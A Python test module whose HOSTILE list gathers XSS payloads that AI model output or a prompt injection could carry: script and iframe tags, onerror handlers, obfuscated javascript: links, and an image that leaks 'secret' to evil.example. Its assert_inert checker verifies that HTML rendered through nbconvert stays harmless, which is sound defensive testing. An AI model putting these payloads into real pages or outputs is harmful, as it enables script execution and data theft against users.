"""Hostile model output, and checks that HTML made from it is inert (shared by the saved-copy,
nbconvert and live-view tests).

``HOSTILE`` is a corpus of texts a model (or a prompt injection) could write: tags, handlers,
obfuscated script schemes in links, images, autolinks and definitions, HTML in code spans and math,
math delimiters that pair across code blocks in nbconvert's mistune, unclosed fences. ``assert_inert``
parses HTML with an HTML parser and fails on anything that could run script or cover the page.
"""

from __future__ import annotations

import html as html_lib
import re
import urllib.parse
from html.parser import HTMLParser

_IMG = "<img src=x onerror=alert(1)>"

HOSTILE = [
    "<script>alert(1)</script>",
    _IMG,
    "[x](javascript:alert(1))",
    '<iframe src="https://evil.example"></iframe>',
    "[y]( JaVaScRiPt\\:alert(1)) [z](&#106;avascript:alert(1)) [w](java&Tab;script&colon;alert(1))",
    "[v](vbscript:msgbox) [d](data:text/html;base64,PHNjcmlwdD4=) <javascript:alert(1)>",
    "[ref]: javascript:alert(2)\n\n[r][ref]",
    '<a href="javascript:alert(1)">a</a> <div onclick="alert(1)">d</div>',
    '> quote `<q>` <em>x</em>\n<a title="`">`x<script>alert(1)</script>`',
    "| a | `b` |\n|---|---|\n| <b onmouseover=alert(1)>x</b> | `a|b<script>` |",
    "<details open ontoggle=alert(1)>",
    "</details>\n\n<script>alert('after the wrapper')</script>",
    # the red team's: math around a code span, and an entity inside the scheme (nbconvert)
    "$`$" + _IMG + "`$",
    "[x](java&#x73;cript:alert(1))",
    "[x](java&amp;#x73;cript:alert(1))",  # mistune decodes twice
    "[x](%6Aavascript:alert(1)) [y](jav%09ascript:alert(1))",
    "[x](<javascript:alert(1)>) [y](\njavascript:alert(1))",
    "[x]: java&#x73;cript:alert(1)\n\n[y][x]",
    "[x]:\n  JAVASCRIPT:alert(1)\n\n[x]",
    "![a](javascript:alert(1)) ![b](data:image/svg+xml,<svg onload=alert(1)>) ![c](https://evil.example/?q=secret)",
    "<svg><script>alert(1)</script></svg> <math><mi xlink:href=javascript:alert(1)>x</mi></math>",
    "<object data=javascript:alert(1)></object><embed src=javascript:alert(1)>",
    '<style>body{display:none}</style><div style="position:fixed;inset:0;z-index:9999">over</div>',
    "<IMG SRC=x\nONERROR=alert(1)>",
    "<div\n>\n\n<img src=x onerror=alert(1)>\n</div>",
    "<!-- x --><img src=x onerror=alert(1)><![CDATA[<img src=x onerror=alert(1)>]]>",
    # math and code that renderers split differently
    "$$ a\n\n```\n$$ " + _IMG + "\n```",
    "Use `$$` for display.\n\n```\n$$ " + _IMG + "\n```",
    "$`\n$" + _IMG + "`",
    "\\begin{x} a\n\n```\n\\end{x} " + _IMG + "\n```",
    "\\\\[ a\n\n```\n\\\\] " + _IMG + "\n```",
    "$x$ `$` " + _IMG + " `$`",
    "- $a\n  ```\n  $ " + _IMG + "\n  ```",
    "> $a\n> ```\n> $ " + _IMG + "\n> ```",
    "```mermaid\ngraph TD\nA[" + _IMG + "]\n```",
    "```js`\n" + _IMG + "\n```",
    "```python\nprint('cut off " + _IMG,
    "~~~\n" + _IMG + "\n```\n" + _IMG,
    "    " + _IMG + "\n" + _IMG,
    "`` ` `` " + _IMG + " `x`",
    "*[a](javascript:alert(1))* **<b>x</b>** ~~[b](javascript:alert(1))~~",
    "www.example.com/javascript:alert(1) https://example.com/<img>",
]


class _Elements(HTMLParser):
    """The elements and attributes a browser would build from some HTML."""

    def __init__(self, html: str) -> None:
        super().__init__(convert_charrefs=True)
        self.elements: list[tuple[str, dict[str, str]]] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, {name: value or "" for name, value in attrs}))

    handle_startendtag = handle_starttag


# What Markdown renderers make (CommonMark, GFM, nbconvert) and the saved copy's own wrappers.
_TAGS = {
    "a", "blockquote", "br", "code", "dd", "del", "details", "div", "dl", "dt", "em", "h1", "h2", "h3",
    "h4", "h5", "h6", "hr", "input", "li", "ol", "p", "pre", "s", "span", "strong", "sub", "summary",
    "table", "tbody", "td", "th", "thead", "tr", "ul",
}  # fmt: skip
_ATTRS = {"href", "title", "class", "id", "start", "type", "checked", "disabled", "align"}


def bad_url(url: str) -> bool:
    for _ in range(3):
        url = urllib.parse.unquote(html_lib.unescape(url))
    return re.sub(r"[\x00-\x20\x7f\\]", "", url).lower().startswith(("javascript:", "vbscript:", "data:"))


def assert_inert(html: str) -> None:
    """No element, attribute or URL that could run script or restyle the page. Escaped text such as
    "&lt;img onerror=..." may still read "onerror=": it is shown as text, as the user should see it."""
    lowered = html.lower()
    assert "<script" not in lowered and "<iframe" not in lowered
    for tag, attrs in _Elements(html).elements:
        assert tag in _TAGS, (tag, attrs)
        for name, value in attrs.items():
            if name == "style":  # mistune aligns table cells so; nothing else may style
                assert re.fullmatch(r"text-align:\s*(left|right|center);?", value), (tag, attrs)
                continue
            assert name in _ATTRS, (tag, attrs)
            if name == "type":
                assert tag == "input" and value == "checkbox", (tag, attrs)
        assert not bad_url(attrs.get("href", "")), (tag, attrs)


def nbconvert_html(bundles: list[dict[str, str]], tmp_path) -> list[str]:  # type: ignore[no-untyped-def]
    """The saved outputs as ``jupyter nbconvert --to html`` shows them: a notebook file with one
    cell per bundle is written, and exported with nbconvert's HTMLExporter; returns the HTML of
    each cell's Markdown output (the rest of the page is nbconvert's own template)."""
    import nbformat
    from nbconvert import HTMLExporter

    notebook = nbformat.v4.new_notebook()
    for bundle in bundles:
        cell = nbformat.v4.new_code_cell("%%glm\nhi")
        cell.outputs = [nbformat.v4.new_output("display_data", data=bundle)]
        notebook.cells.append(cell)
    path = tmp_path / "saved.ipynb"
    nbformat.write(notebook, path)
    body, _ = HTMLExporter().from_filename(str(path))
    marker = 'data-mime-type="text/markdown"'
    parts = body.split(marker)[1:]
    assert len(parts) == len(bundles)
    # each output's HTML runs to the next cell's input (or the end of the page)
    return [
        part[
            part.index(">") + 1 : min(
                part.find(x) % (len(part) + 1) for x in ('<div class="jp-Cell ', "</main>")
            )
        ]
        for part in parts
    ]
